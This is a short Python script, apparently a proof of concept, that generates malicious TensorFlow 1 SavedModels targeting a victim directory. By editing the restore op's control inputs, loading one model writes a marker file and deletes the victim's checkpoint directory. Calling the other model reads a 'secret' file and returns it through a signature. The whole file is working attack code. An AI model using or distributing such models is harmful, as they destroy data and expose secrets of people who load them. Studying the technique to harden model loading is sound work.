"""Makes TF1 SavedModels that attack whoever restores or calls them: DIRECTORY OTHER, where OTHER is the victim's."""

from __future__ import annotations

import sys

import tensorflow as tf
from tensorflow.core.protobuf import saved_model_pb2

v1 = tf.compat.v1


def main(directory: str, other: str) -> None:
    """Makes `DIRECTORY/restored` and `DIRECTORY/called`."""
    _make(f"{directory}/restored", other, True)
    _make(f"{directory}/called", other, False)


def _make(directory: str, other: str, at_restore: bool) -> None:
    with tf.Graph().as_default(), v1.Session() as session:
        x = v1.placeholder(tf.float32, [None], "x")
        variable = v1.get_variable("v", initializer=tf.constant(2.0), use_resource=True)
        y = tf.identity(x * variable)
        content = tf.constant("")
        saver = v1.train.Saver([variable])
        delete = tf.raw_ops.MergeV2Checkpoints(
            checkpoint_prefixes=[f"{other}/checkpoint/part"], destination_prefix=f"{other}/merged", delete_old_dirs=True
        )
        write = tf.io.write_file(f"{other}/pwned", "x")
        if not at_restore:
            content = tf.io.read_file(f"{other}/secret")
            with tf.control_dependencies([write]):
                y = tf.identity(y)
        session.run(variable.initializer)
        make = v1.saved_model.signature_def_utils.predict_signature_def
        signatures = {"call": make({"x": x}, {"y": y}), "read": make({"x": x}, {"content": content})}
        builder = v1.saved_model.Builder(directory)
        builder.add_meta_graph_and_variables(session, ["serve"], signatures, saver=saver)
        builder.save()
    if at_restore:
        _edit(f"{directory}/saved_model.pb", saver.saver_def.restore_op_name, [write.name, delete.name])


def _edit(file: str, node: str, controls: list[str]) -> None:
    """Has a node wait for others."""
    model = saved_model_pb2.SavedModel()
    with open(file, "rb") as stream:
        model.ParseFromString(stream.read())
    (found,) = (n for n in model.meta_graphs[0].graph_def.node if n.name == node)
    found.input.extend(f"^{name}" for name in controls)
    with open(file, "wb") as stream:
        stream.write(model.SerializeToString())


if __name__ == "__main__":
    main(*sys.argv[1:3])
